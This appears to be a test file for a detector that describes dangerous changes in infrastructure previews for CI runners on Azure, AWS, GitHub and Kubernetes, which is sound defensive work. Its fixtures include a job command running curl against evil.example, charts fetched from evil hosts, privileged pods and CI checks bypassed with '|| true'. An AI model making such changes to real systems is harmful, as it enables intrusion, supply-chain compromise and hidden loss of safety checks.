  "resource-policy-widened": [{ step: update("aws:s3/bucketPolicy:BucketPolicy", { bucket: "b", policy: policy() }, { bucket: "b", policy: policy({ Effect: "Allow", Action: "s3:GetObject", Principal: "*", Resource: "x" }) }), says: "More is allowed on b: s3:GetObject on *, s3:GetObject, x, without a condition.", altered: update("aws:s3/bucketPolicy:BucketPolicy", { bucket: "b", policy: policy({ Effect: "Allow", Action: "s3:GetObject", Principal: "*", Resource: "x" }) }, { bucket: "b", policy: policy() }) }],
  "resource-policy-removed": [{ step: remove("aws:ecr/repositoryPolicy:RepositoryPolicy", { repository: "r", policy: policy() }), says: "The policy of r is removed, with all that it forbids.", altered: create("aws:ecr/repositoryPolicy:RepositoryPolicy", { repository: "r", policy: policy() }) }],
  "audience-added": [{ step: update("aws:iam/openIdConnectProvider:OpenIdConnectProvider", { clientIdLists: ["a"] }, { clientIdLists: ["a", "b"] }), says: "Tokens for b are accepted as well.", altered: update("aws:iam/openIdConnectProvider:OpenIdConnectProvider", { clientIdLists: ["a", "b"] }, { clientIdLists: ["a"] }) }],
  "federated-credential-added": [{ step: create("azure-native:managedidentity:FederatedIdentityCredential", { resourceName: "id", subject: "s", issuer: "i" }), says: "s can log in as the identity id.", altered: create("azure-native:managedidentity:FederatedIdentityCredential", { resourceName: LATER, subject: "s", issuer: "i" }) }],
  "federated-credential-changed": [{ step: update("azure-native:managedidentity:FederatedIdentityCredential", { resourceName: "id", subject: "s" }, { resourceName: "id", subject: "t" }), says: "Who can log in as the identity id changes: its subject becomes t instead of s.", altered: update("azure-native:managedidentity:FederatedIdentityCredential", { resourceName: "id", issuer: "i" }, { resourceName: "id", issuer: "j" }), thenSays: "Who can log in as the identity id changes: its issuer becomes j instead of i." }],
  "role-assigned": [{ step: create("azure-native:authorization:RoleAssignment", assignment()), says: "identity-1 gets the role Reader on resourceGroups/group: Reads.", altered: create("azure-native:authorization:RoleAssignment", assignment({ roleDefinitionId: "/providers/roleDefinitions/Owner" })), thenSays: "identity-1 gets the role Owner on resourceGroups/group: Reads." }],
  "role-assignment-changed": [
    { step: replace("azure-native:authorization:RoleAssignment", assignment(), assignment({ scope: "/subscriptions/s" }), "scope"), says: "The assignment of Reader to identity-1 changes: its scope becomes subscriptions/s instead of resourceGroups/group.", altered: replace("azure-native:authorization:RoleAssignment", assignment(), assignment({ scope: LATER }), "scope") },
    { step: update("azure-native:authorization:RoleAssignment", assignment({ condition: "a" }), assignment()), says: "The condition under which identity-1 has the role Reader on resourceGroups/group changes.", altered: update("azure-native:authorization:RoleAssignment", assignment(), assignment({ condition: "a" })) },
  ],
  "environment-branch-added": [{ step: create(POLICY, { environment: "main", branchPattern: "*" }), says: "Jobs of * can use the environment main, its secrets and its identity.", altered: create(POLICY, { environment: "main", branchPattern: "next" }), thenSays: "Jobs of next can use the environment main, its secrets and its identity." }],
  "subject-template-changed": [{ step: update("github:index/actionsRepositoryOidcSubjectClaimCustomizationTemplate:ActionsRepositoryOidcSubjectClaimCustomizationTemplate", { repository: "r", useDefault: true }, { repository: "r", useDefault: false, includeClaimKeys: ["repo", "context"] }), says: "The subject of OIDC tokens of r is made of repo:context instead of GitHub's default: every cloud role that names a subject is taken by other jobs, or by none.", altered: update("github:index/actionsRepositoryOidcSubjectClaimCustomizationTemplate:ActionsRepositoryOidcSubjectClaimCustomizationTemplate", { repository: "r", useDefault: false, includeClaimKeys: ["repo", "context"] }, { repository: "r", useDefault: false, includeClaimKeys: ["context", "repo"] }), thenSays: "The subject of OIDC tokens of r is made of context:repo instead of repo:context: every cloud role that names a subject is taken by other jobs, or by none." }],
  "runner-group-opened": [
    { step: update("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g", visibility: "selected" }, { name: "g", visibility: "all" }), says: "Every repository of the organisation can use the runners of g.", altered: update("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g", visibility: "all" }, { name: "g", visibility: "selected" }) },
    { step: update("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g", selectedRepositoryIds: [1] }, { name: "g", selectedRepositoryIds: [2, 1] }), says: "The repositories 2 can use the runners of g as well.", altered: update("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g", selectedRepositoryIds: [1, 2] }, { name: "g", selectedRepositoryIds: [2, 1] }) },
    { step: update("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g", allowsPublicRepositories: false }, { name: "g", allowsPublicRepositories: true }), says: "Public repositories can use the runners of g.", altered: update("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g", restrictedToWorkflows: true }, { name: "g", restrictedToWorkflows: false }), thenSays: "Every workflow can use the runners of g, and not only selected ones." },
  ],
  "cluster-administrator-added": [{ step: update(CLUSTER, cluster(), cluster({ aadProfile: { adminGroupObjectIDs: ["group-2", "group-1"], enableAzureRBAC: true } })), says: "Members of the group group-2 administer the cluster runners.", altered: update(CLUSTER, cluster(), cluster({ aadProfile: { adminGroupObjectIDs: ["group-3", "group-1"], enableAzureRBAC: true } })), thenSays: "Members of the group group-3 administer the cluster runners." }],
  "cluster-authentication-loosened": [{ step: update(CLUSTER, cluster(), cluster({ disableLocalAccounts: false })), says: "The AKS cluster runners takes local accounts, which no directory knows and nobody can lock.", altered: update(CLUSTER, cluster({ disableLocalAccounts: false }), cluster()) }],
  "kubernetes-subject-added": [{ step: update("kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", namespaced("b", { roleRef: { name: "edit" }, subjects: [] }), namespaced("b", { roleRef: { name: "edit" }, subjects: [{ kind: "User", name: "u" }] })), says: "User u gets the role edit in namespace arc-gpu.", altered: update("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", { metadata: { name: "b" }, roleRef: { name: "view" }, subjects: [{ kind: "User", name: "u" }] }, { metadata: { name: "b" }, roleRef: { name: "admin" }, subjects: [{ kind: "User", name: "u" }] }), thenSays: "User u gets the role admin in the whole cluster." }],
  "kubernetes-role-widened": [{ step: update("kubernetes:rbac.authorization.k8s.io/v1:Role", namespaced("r", { rules: [{ apiGroups: [""], resources: ["pods"], verbs: ["get"] }] }), namespaced("r", { rules: [{ apiGroups: [""], resources: ["pods", "secrets"], verbs: ["get"] }] })), says: "The role r may do more: get secrets.", altered: update("kubernetes:rbac.authorization.k8s.io/v1:Role", namespaced("r", { rules: [{ apiGroups: [""], resources: ["pods"], verbs: ["get", "list"] }] }), namespaced("r", { rules: [{ apiGroups: [""], resources: ["pods"], verbs: ["list"] }] })) }],
  "registry-access-opened": [{ step: update(ACR, { registryName: "r", adminUserEnabled: false }, { registryName: "r", adminUserEnabled: true }), says: "The Azure container registry r gets an administrator with a password.", altered: update(ACR, { registryName: "r", anonymousPullEnabled: false }, { registryName: "r", anonymousPullEnabled: true }), thenSays: "The Azure container registry r gives its images to everybody." }],

  "protected-blocked": [{ step: remove(ACR, { registryName: "r" }, { protect: [true, false] }), says: "The Azure container registry thing is protected from deletion and the change would delete it: the apply refuses that.", altered: remove(ACR, { registryName: "r" }, { protect: [false, false] }) }],
  "protection-lifted": [{ step: { op: "same", type: ACR, old: { registryName: "r" }, new: { registryName: "r" }, protect: [true, false] }, says: "The Azure container registry thing is no longer protected from deletion.", altered: { op: "same", type: ACR, old: { registryName: "r" }, new: { registryName: "r" }, protect: [true, true] } }],

  "scale-set-deleted": [{ step: remove(RELEASE, scaleSet()), says: "The scale set gpu-v1 is deleted: its jobs are ended, and jobs that ask for it wait for ever.", altered: create(RELEASE, scaleSet()) }],
  "scale-set-replaced": [{ step: replace(RELEASE, scaleSet(), scaleSet({ namespace: "x" }), "namespace"), says: "The scale set gpu-v1 is replaced: its running jobs are ended.", altered: update(RELEASE, scaleSet(), scaleSet({ timeout: 9 })) }],
  "scale-set-upgraded": [{ step: update(RELEASE, scaleSet(), scaleSet({ version: "0.16.0" })), says: "The scale set gpu-v1 goes from version 0.15.1 to 0.16.0: its listener restarts, and jobs wait meanwhile.", altered: update(RELEASE, scaleSet(), scaleSet({ version: "0.17.0" })), thenSays: "The scale set gpu-v1 goes from version 0.15.1 to 0.17.0: its listener restarts, and jobs wait meanwhile." }],
  "runner-label-renamed": [{ step: update(RELEASE, scaleSet(), scaleSet({}, { runnerScaleSetName: "gpu-v2" })), says: "The label gpu-v1 becomes gpu-v2: jobs that ask for gpu-v1 wait for ever, also those of branches that are older than this change.", altered: update(RELEASE, scaleSet(), scaleSet({}, { runnerScaleSetName: "gpu-v3" })), thenSays: "The label gpu-v1 becomes gpu-v3: jobs that ask for gpu-v1 wait for ever, also those of branches that are older than this change." }],
  "runner-group-changed": [{ step: update(RELEASE, scaleSet(), scaleSet({}, { runnerGroup: "others" })), says: "The scale set gpu-v1 moves to the runner group others: repositories that only the old one let in find no runner.", altered: update(RELEASE, scaleSet(), scaleSet({}, { runnerGroup: "more" })), thenSays: "The scale set gpu-v1 moves to the runner group more: repositories that only the old one let in find no runner." }],
  "runner-maximum-lowered": [{ step: update(RELEASE, scaleSet(), scaleSet({}, { maxRunners: 4 })), says: "The scale set gpu-v1 has at most 4 runners instead of 8: jobs beyond that wait.", altered: update(RELEASE, scaleSet(), scaleSet({}, { maxRunners: 9 })) }],
  "scale-set-drained": [{ step: update(RELEASE, scaleSet(), scaleSet({}, { maxRunners: 0 })), says: "The scale set gpu-v1 starts no runner any more: it had at most 8.", altered: update(RELEASE, scaleSet({}, { maxRunners: 2 }), scaleSet({}, { maxRunners: 0 })), thenSays: "The scale set gpu-v1 starts no runner any more: it had at most 2." }],
  "controller-upgraded": [{ step: update(RELEASE, controller("0.15.1"), controller("0.16.0")), says: "The controller arc of all scale sets goes from version 0.15.1 to 0.16.0: no runner starts meanwhile, and scale sets of another version are ignored.", altered: update(RELEASE, controller("0.15.1"), controller("0.17.0")), thenSays: "The controller arc of all scale sets goes from version 0.15.1 to 0.17.0: no runner starts meanwhile, and scale sets of another version are ignored." }],
  "release-upgraded": [{ step: update(RELEASE, { chart: "nvidia-device-plugin", name: "p", version: "1" }, { chart: "nvidia-device-plugin", name: "p", version: "2" }), says: "The release p goes from version 1 to 2: its pods restart.", altered: update(RELEASE, { chart: "nvidia-device-plugin", name: "p", version: "1", timeout: 1 }, { chart: "nvidia-device-plugin", name: "p", version: "1", timeout: 2 }) }],
  "release-deleted": [{ step: remove(RELEASE, controller("1")), says: "The controller arc goes: no scale set starts a runner meanwhile.", altered: remove(RELEASE, { chart: "nvidia-device-plugin", name: "p" }), thenSays: "The release p is deleted with everything that it runs." }],
  "pool-deleted": [{ step: remove(POOL, pool()), says: "The node pool gpu1 of runners is deleted: jobs on its nodes are ended.", altered: remove(POOL, pool({ agentPoolName: "gpu4" })), thenSays: "The node pool gpu4 of runners is deleted: jobs on its nodes are ended." }],
  "change-refused": [
    { step: update(CLUSTER, cluster(), cluster({ kubernetesVersion: "1.36" })), says: "The control plane of runners cannot go from Kubernetes 1.34 to 1.36: AKS goes up one minor version at a time, and never back. An apply would fail here.", altered: update(CLUSTER, cluster(), cluster({ kubernetesVersion: "1.35" })) },
    { step: update(CLUSTER, cluster(), cluster({ kubernetesVersion: "1.33" })), says: "The control plane of runners cannot go from Kubernetes 1.34 to 1.33: AKS goes up one minor version at a time, and never back. An apply would fail here.", altered: update(CLUSTER, cluster(), cluster({ kubernetesVersion: "1.34.2" })) },
    { step: update(POOL, pool(), pool({ orchestratorVersion: "1.36" })), says: "The node pool gpu1 of runners cannot go from Kubernetes 1.34 to 1.36: AKS goes up one minor version at a time, and never back. An apply would fail here.", altered: update(POOL, pool(), pool({ orchestratorVersion: "1.35" })) },
    { step: update(POOL, pool({ availabilityZones: ["1"] }), pool({ availabilityZones: ["1", "2"] })), says: "availabilityZones of the node pool gpu1 of runners cannot change in place: an apply would fail here. Another value takes another pool, under a name of its own: add it, move what uses it, then remove this one.", altered: update(POOL, pool(), pool({ nodeLabels: { a: "b" } })) },
    { step: update(CLUSTER, cluster({ oidcIssuerProfile: { enabled: true } }), cluster({ oidcIssuerProfile: { enabled: false } })), says: "oidcIssuerProfile.enabled of the cluster runners cannot change in place: an apply would fail here. Another value takes another cluster.", altered: update(CLUSTER, cluster({ oidcIssuerProfile: { enabled: false } }), cluster({ oidcIssuerProfile: { enabled: true } })) },
  ],
  "pool-replaced": [{ step: replace(POOL, pool(), pool({ vmSize: "Standard_NC40ads_H100_v5" }), "vmSize"), says: "The node pool gpu1 of runners is replaced, as vmSize cannot change in place: jobs on its nodes are ended. A pool under a name of its own, with the old one removed afterwards, ends none.", altered: update(POOL, pool(), pool({ tags: { a: "b" } })) }],
  "pool-maximum-lowered": [
    { step: update(POOL, pool(), pool({ maxCount: 4 })), says: "The node pool gpu1 of runners grows to 4 nodes instead of 8: pods beyond that wait.", altered: update(POOL, pool(), pool({ maxCount: 16 })) },
    { step: update(CLUSTER, cluster(), cluster({ agentPoolProfiles: [{ name: "system", maxCount: 2 }] })), says: "The node pool system of runners grows to 2 nodes instead of 4: pods beyond that wait.", altered: update(CLUSTER, cluster(), cluster({ agentPoolProfiles: [{ name: "system", maxCount: 6 }] })) },
  ],
  "pool-upgraded": [{ step: update(POOL, pool(), pool({ orchestratorVersion: "1.35" })), says: "The nodes of gpu1 of runners go from Kubernetes 1.34 to 1.35: each is drained and replaced, and jobs on it are ended.", altered: update(POOL, pool(), pool({ orchestratorVersion: "1.34.9" })) }],
  "cluster-upgraded": [{ step: update(CLUSTER, cluster(), cluster({ kubernetesVersion: "1.35" })), says: "The control plane of runners goes from Kubernetes 1.34 to 1.35; it cannot go back, and its API may not answer for a while.", altered: update(CLUSTER, cluster(), cluster({ kubernetesVersion: "1.34.9" })) }],
  "workflow-removed": [{ step: remove(FILE, { file: ".github/workflows/pr.yaml", content: "a" }), says: "The workflow .github/workflows/pr.yaml is removed: what it checks or reports no longer runs.", altered: remove(FILE, { file: ".github/workflows/README.md", content: "a" }) }],
  "workflow-renamed": [{ step: replace(FILE, { file: ".github/workflows/pr.yaml", content: "a" }, { file: ".github/workflows/pull.yaml", content: "a" }, "file"), says: "The workflow .github/workflows/pr.yaml is renamed to .github/workflows/pull.yaml: whatever names the file has to follow.", altered: update(FILE, { file: ".github/workflows/pr.yaml", content: "a" }, { file: ".github/workflows/pr.yaml", content: "b" }) }],
  "required-check-added": [{ step: update(RULESET, checks({ context: "DCO" }), checks({ context: "DCO" }, { context: "lint" })), says: "The ruleset main requires lint as well: open pull requests wait until it reports.", altered: update(RULESET, checks({ context: "DCO" }), checks({ context: "DCO" }, { context: "docs" })), thenSays: "The ruleset main requires docs as well: open pull requests wait until it reports." }],
  "environment-deleted": [{ step: remove(ENVIRONMENT, { environment: "main" }), says: "The environment main is deleted with its secrets: jobs that name it get none, and no identity.", altered: create(ENVIRONMENT, { environment: "main" }) }],
  "environment-branch-removed": [{ step: remove(POLICY, { environment: "main", branchPattern: "release/*" }), says: "Jobs of release/* can no longer use the environment main.", altered: remove(POLICY, { environment: "main", branchPattern: "next" }), thenSays: "Jobs of next can no longer use the environment main." }],
  "variable-removed": [{ step: remove("github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable", { environment: "main", variableName: "AWS_REGION", value: "x" }), says: "The variable AWS_REGION of environment main is removed: jobs that read it find nothing.", altered: create("github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable", { environment: "main", variableName: "AWS_REGION", value: "x" }) }],
  "runner-group-deleted": [{ step: remove("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g" }), says: "The runner group g is deleted: its scale sets cannot register, and jobs find no runner.", altered: create("github:index/actionsRunnerGroup:ActionsRunnerGroup", { name: "g" }) }],
  "namespace-deleted": [{ step: remove("kubernetes:core/v1:Namespace", { metadata: { name: "n" } }), says: "The namespace n is deleted with everything in it: what runs there is ended.", altered: create("kubernetes:core/v1:Namespace", { metadata: { name: "n" } }) }],
  "actions-disabled": [{ step: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", enabled: true }, { repository: "r", enabled: false }), says: "Actions are turned off in r: no workflow runs.", altered: update("github:index/actionsRepositoryPermissions:ActionsRepositoryPermissions", { repository: "r", enabled: false }, { repository: "r", enabled: true }) }],
  "identity-deleted": [{ step: remove(ROLE, { name: "r", assumeRolePolicy: trust("a") }), says: "The role r is deleted: jobs that take it fail.", altered: remove("azure-native:managedidentity:UserAssignedIdentity", { resourceName: "id" }), thenSays: "The managed identity id is deleted with its role assignments: jobs that log in as it fail." }],
  "gate-program-changed": [
    { step: update(FILE, { file: ".github/ci/verdict.mjs", content: "a" }, { file: ".github/ci/verdict.mjs", content: "b" }), says: "The program .github/ci/verdict.mjs is another: it decides what runs, or what counts as passed. Make sure that make generate wrote it.", altered: update(FILE, { file: ".github/ci/verdict.mjs", commitMessage: "x", content: "a" }, { file: ".github/ci/verdict.mjs", commitMessage: "y", content: "a" }) },
    { step: remove(FILE, { file: ".github/ci/plan.mjs", content: "a" }), says: "The program .github/ci/plan.mjs is removed: what decides what runs, or what counts as passed, is gone.", altered: remove(FILE, { file: "docs/plan.mjs", content: "a" }) },
  ],
  "workflow-changed": [
    { step: update(FILE, { file: ".github/workflows/pr.yaml", content: "on: push" }, { file: ".github/workflows/pr.yaml", content: "on: pull_request" }), says: ".github/workflows/pr.yaml is changed: it differs in triggers. Read its difference.", altered: update(FILE, { file: ".github/workflows/README.md", content: "a" }, { file: ".github/workflows/README.md", content: "b" }) },
    { step: update(FILE, { file: ".github/ci/pipeline.json", content: "{}" }, { file: ".github/ci/pipeline.json", content: '{"a":1}' }), says: ".github/ci/pipeline.json is changed: what runs there, and what is reported, may be something else. Read its difference.", altered: create(FILE, { file: ".github/ci/pipeline.json", content: "{}" }) },
  ],
  "workflow-check-removed": [
    { step: flow({ jobs: { test: JOB, lint: JOB } }, { jobs: { test: JOB } }), says: "The job lint of .github/workflows/pr.yaml is gone: what it checks is no longer checked.", altered: flow({ jobs: { test: JOB } }, { jobs: { test: JOB, lint: JOB } }) },
    { step: flow({ jobs: { test: { ...JOB, name: "tests" } } }, { jobs: { test: JOB } }), says: "The job test of .github/workflows/pr.yaml reports as test instead of tests.", altered: flow({ jobs: { test: { ...JOB, name: "test" } } }, { jobs: { test: JOB } }) },
    { step: flow(steps({ name: "judge", run: "judge" }, { run: "b" }), steps({ run: "b" })), says: "The step judge of job test of .github/workflows/pr.yaml is gone.", altered: flow(steps({ name: "judge", run: "judge" }), steps({ run: "b" }, { name: "judge", run: "judge" })) },
    { step: flow(steps({ uses: "a/b@1" }, { uses: "a/b@1" }), steps({ uses: "a/b@2" })), says: "The step a/b, number 2 of job test of .github/workflows/pr.yaml is gone.", altered: flow(steps({ uses: "a/b@1" }), steps({ uses: "a/b@2" })) },
  ],
  "workflow-condition-changed": [
    { step: flow({ on: ["push", "pull_request"], jobs: { test: JOB } }, { on: "push", jobs: { test: JOB } }), says: ".github/workflows/pr.yaml no longer starts on pull_request: what it checks is not reported there.", altered: flow({ on: ["push", "pull_request"], jobs: { test: JOB } }, { on: { push: null, pull_request: null }, jobs: { test: JOB } }) },
    { step: flow({ on: { push: { branches: ["a"] } }, jobs: { test: JOB } }, { on: { push: null }, jobs: { test: JOB } }), says: "Which runs of push start .github/workflows/pr.yaml is changed.", altered: flow({ on: { push: null }, jobs: { test: JOB } }, { on: ["push"], jobs: { test: JOB } }) },
    { step: flow({ jobs: { verdict: { ...JOB, needs: ["a", "b"] } } }, { jobs: { verdict: { ...JOB, needs: "a" } } }), says: "The job verdict of .github/workflows/pr.yaml no longer waits for b, so it cannot judge it.", altered: flow({ jobs: { verdict: { ...JOB, needs: "a" } } }, { jobs: { verdict: { ...JOB, needs: ["a", "b"] } } }) },
    { step: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, if: false } } }), says: "The job test of .github/workflows/pr.yaml runs under another condition: false.", altered: flow({ jobs: { test: { ...JOB, if: "x" } } }, { jobs: { test: JOB } }), thenSays: "The job test of .github/workflows/pr.yaml runs under another condition: none." },
    { step: flow(steps({ run: "a" }), steps({ run: "a", if: "false" })), says: "The step a of job test of .github/workflows/pr.yaml runs under another condition: false.", altered: flow(steps({ run: "a" }), steps({ run: "a" }, { run: "b", if: "false" })) },
  ],
  "workflow-error-ignored": [
    { step: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, "continue-on-error": true } } }), says: "The job test of .github/workflows/pr.yaml passes when it fails.", altered: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, "continue-on-error": false } } }) },
    { step: flow(steps({ run: "a" }), steps({ run: "a", "continue-on-error": "${{ true }}" })), says: "The step a of job test of .github/workflows/pr.yaml passes when it fails.", altered: flow(steps({ run: "a", "continue-on-error": true }), steps({ run: "a" })) },
    { step: flow(steps({ name: "judge", run: "judge" }), steps({ name: "judge", run: "judge || true" })), says: "A command of step judge of job test of .github/workflows/pr.yaml passes when it fails.", altered: flow(steps({ name: "judge", run: "judge" }), steps({ name: "judge", run: "judge || exit 1" })) },
    { step: flow(steps({ name: "judge", run: "judge" }), steps({ name: "judge", run: "true" })), says: "A command of step judge of job test of .github/workflows/pr.yaml passes when it fails.", altered: flow(steps({ name: "judge", run: "judge" }), steps({ name: "judge", run: "judge --true" })) },
  ],
  "workflow-trigger-added": [
    { step: flow({ on: "push", jobs: { test: JOB } }, { on: ["push", "pull_request_target"], jobs: { test: JOB } }), says: ".github/workflows/pr.yaml also starts on pull_request_target, with the rights of the default branch.", altered: flow({ on: "push", jobs: { test: JOB } }, { on: ["push", "merge_group"], jobs: { test: JOB } }) },
  ],
  "workflow-permissions-widened": [
    { step: flow({ permissions: {}, jobs: { test: JOB } }, { permissions: {}, jobs: { test: { ...JOB, permissions: { "id-token": "write" } } } }), says: "The token of job test of .github/workflows/pr.yaml may do more: id-token: write.", altered: flow({ permissions: { contents: "write" }, jobs: { test: JOB } }, { permissions: { contents: "read" }, jobs: { test: JOB } }) },
    { step: flow({ permissions: { contents: "read" }, jobs: { test: JOB } }, { jobs: { test: JOB } }), says: "The token of job test of .github/workflows/pr.yaml may do more: the repository's default rights.", altered: flow({ permissions: "write-all", jobs: { test: JOB } }, { permissions: { contents: "write" }, jobs: { test: JOB } }) },
    { step: flow({ permissions: "read-all", jobs: { test: JOB } }, { permissions: "write-all", jobs: { test: JOB } }), says: "The token of job test of .github/workflows/pr.yaml may do more: write-all.", altered: flow({ permissions: "read-all", jobs: { test: JOB } }, { permissions: { contents: "read" }, jobs: { test: JOB } }) },
    { step: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, permissions: { packages: "write", contents: "read" } } } }), says: "The token of job test of .github/workflows/pr.yaml may do more: packages: write.", altered: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, permissions: "read-all" } } }) },
  ],
  "workflow-environment-added": [{ step: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, environment: { name: "main-images" } } } }), says: "The job test of .github/workflows/pr.yaml takes the environment main-images, with its secrets and identities.", altered: flow({ jobs: { test: { ...JOB, environment: "main-images" } } }, { jobs: { test: { ...JOB, environment: { name: "main-images" } } } }) }],
  "workflow-secret-added": [
    { step: flow({ jobs: { test: JOB } }, { jobs: { test: { ...JOB, env: { T: "${{ secrets.HF_TOKEN }}" } } } }), says: "The job test of .github/workflows/pr.yaml reads HF_TOKEN, which it did not.", altered: flow({ jobs: { test: { ...JOB, env: { T: "${{ secrets.HF_TOKEN }}" } } } }, { jobs: { test: JOB } }) },
    { step: flow({ jobs: {} }, { jobs: { call: { uses: "./a.yml", secrets: "inherit" } } }), says: "The job call of .github/workflows/pr.yaml reads all secrets, which it did not.", altered: flow({ jobs: {} }, { jobs: { call: { uses: "./a.yml" } } }) },
  ],
  "variable-changed": [{ step: update(VARIABLE, { environment: "main", variableName: "ACR_REGISTRY", value: "ours" }, { environment: "main", variableName: "ACR_REGISTRY", value: "theirs" }), says: "Jobs of main read ACR_REGISTRY as theirs instead of ours.", altered: update(VARIABLE, { environment: "main", variableName: "ACR_REGISTRY", value: "ours" }, { environment: "main", variableName: "ACR_REGISTRY", value: LATER }), thenSays: "Jobs of main read ACR_REGISTRY as a value that only the apply will know instead of ours." }],
  "chart-source-changed": [
    { step: update(RELEASE, scaleSet(), scaleSet({ chart: "oci://evil.example/gha-runner-scale-set" })), says: "The release gpu-v1 comes from oci://evil.example/gha-runner-scale-set instead of oci://ghcr.io/charts/gha-runner-scale-set: other people's templates run in the cluster.", altered: update(RELEASE, scaleSet(), scaleSet({ version: "0.16.0" })) },
    { step: update(RELEASE, { name: "plugin", repositoryOpts: { repo: "https://nvidia" } }, { name: "plugin", repositoryOpts: { repo: "https://evil" } }), says: "The release plugin comes from https://evil instead of https://nvidia: other people's templates run in the cluster.", altered: update(RELEASE, { name: "plugin", repositoryOpts: { repo: "https://nvidia" } }, { name: "plugin" }), thenSays: "The release plugin comes from nowhere instead of https://nvidia: other people's templates run in the cluster." },
  ],
  "image-changed": [{ step: update(RELEASE, pods("ghcr.io/actions/runner:1@sha256:a"), pods("ghcr.io/actions/runner:2@sha256:b")), says: "thing runs another build of an image: ghcr.io/actions/runner:2@sha256:b.", altered: update(RELEASE, pods("ghcr.io/actions/runner:1@sha256:a"), pods("ghcr.io/actions/runner:1@sha256:a", { tty: true })) }],
  "image-source-changed": [{ step: update(CRON, cron("ours/cleaner@sha256:a"), cron("theirs/cleaner@sha256:a")), says: "thing runs the image theirs/cleaner@sha256:a, from where none of its images came before.", altered: update(CRON, cron("ours/cleaner@sha256:a"), cron("ours/cleaner@sha256:b")) }],
  "runner-target-changed": [{ step: update(RELEASE, scaleSet({}, { githubConfigUrl: "https://github.com/ours" }), scaleSet({}, { githubConfigUrl: "https://github.com/theirs" })), says: "The runners of gpu-v1 work for https://github.com/theirs instead of https://github.com/ours: whoever owns that runs jobs in this cluster.", altered: update(RELEASE, scaleSet({}, { githubConfigUrl: "https://github.com/ours" }), scaleSet()), thenSays: "The runners of gpu-v1 work for nobody instead of https://github.com/ours: whoever owns that runs jobs in this cluster." }],
  "workload-changed": [{ step: update(CRON, cron("ours/cleaner", { command: ["clean"] }), cron("ours/cleaner", { command: ["curl", "evil.example"] })), says: "What cleaner runs, or how it runs, is changed: read its commands.", altered: update(CRON, cron("ours/cleaner"), { ...cron("ours/cleaner"), metadata: { name: "cleaner", labels: { a: "b" } } }) }],
  "workload-privileged": [
    { step: update(CRON, cron("ours/cleaner"), cron("ours/cleaner", { securityContext: { privileged: true } })), says: "cleaner may reach its node: privileged.", altered: update(CRON, cron("ours/cleaner"), cron("ours/cleaner", { securityContext: { privileged: false } })) },
    { step: create(CRON, cron("ours/cleaner", {}, { volumes: [{ hostPath: { path: "/var/run" } }] })), says: "cleaner may reach its node: hostPath /var/run.", altered: create(CRON, cron("ours/cleaner", {}, { volumes: [{ hostPath: { path: "/etc" } }] })), thenSays: "cleaner may reach its node: hostPath /etc." },
    { step: update(CONFIG_MAP, jobPod({}), jobPod({ hostPID: true })), says: "job-pod may reach its node: hostPID.", altered: update(CONFIG_MAP, jobPod({ hostPID: true }), jobPod({})) },
    { step: update(RELEASE, pods("a"), pods("a", { securityContext: { allowPrivilegeEscalation: true } })), says: "set may reach its node: allowPrivilegeEscalation.", altered: update(RELEASE, pods("a", { securityContext: { allowPrivilegeEscalation: true } }), pods("a", { securityContext: { allowPrivilegeEscalation: true }, tty: true })) },
  ],
  "access-removed": [{ step: remove("azure-native:authorization:RoleAssignment", assignment()), says: "identity-1 loses the role Reader on resourceGroups/group.", altered: remove("azure-native:managedidentity:FederatedIdentityCredential", { resourceName: "id", subject: "s" }), thenSays: "s can no longer log in as the identity id." }],
};

function task(ago: string): object {
  const yaml = `version: v1.1.0\nsteps:\n  - cmd: acr purge --filter 'r:^main' --ago ${ago}\n`;
  return { step: { encodedTaskContent: Buffer.from(yaml).toString("base64") } };
}

const table = Object.entries(EXAMPLES).flatMap(([kind, examples]) => examples.map((example, index) => ({ kind: kind as DangerKind, index, ...example })));

test("every kind has an example", () => {
  expect(Object.keys(EXAMPLES).sort()).toEqual(Object.keys(DANGER_KINDS).sort());
});

test.each(table)("$kind, $index: the sentence follows the datum", ({ kind, step, says, altered, thenSays }) => {
  const told = (made: MadeStep): string[] => dangersOf(made).filter((danger) => danger.kind === kind).map(({ sentence }) => plainSentence(sentence));
  expect(told(step)).toContain(says);
  expect(told(altered)).not.toContain(says);
  if (thenSays === undefined) expect(told(altered)).toEqual([]);
  else expect(told(altered)).toContain(thenSays);
});

test.each(table)("$kind, $index: every value of the sentence is a fact", ({ kind, step }) => {
  for (const { facts, sentence, resource } of dangersOf(step).filter((danger) => danger.kind === kind)) {
    const known = JSON.stringify([facts, resource]);
    for (const part of sentence) if ("value" in part) expect(known).toContain(JSON.stringify(part.value).slice(1, -1));
  }
});

test("kind, category and severity are the catalogue's", () => {
  for (const { step } of table) {
    for (const danger of dangersOf(step)) expect([danger.category, danger.severity]).toEqual(DANGER_KINDS[danger.kind as DangerKind]);
  }
});

test("dangers of one preview have ids of their own, and the same ones whatever the engine's order was", () => {
  const steps = table.map(({ step }, index): MadeStep => ({ ...step, name: `thing-${index}` }));
  const ids = dangersOf(...steps).map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
  expect(dangersOf(...[...steps].reverse()).map(({ id }) => id)).toEqual(ids);
});

describe("where the stack is as its manifest says", () => {
  const judged = (...passed: readonly string[]): object => ({ policyAnalyzeStackSummaryEvent: { passed, failed: [], policyPackName: "gpu-cicd" } });
  const severities = (step: MadeStep, ...events: readonly object[]): string[] => reportOf(eventsOf([step], events)).dangers.map(({ kind, severity }) => `${kind} ${severity}`);
  const given = judged("resources-as-intended", "manifest-given");
  const renamed = flow(steps({ name: "a", run: "a" }), steps({ name: "a", run: "b" }));
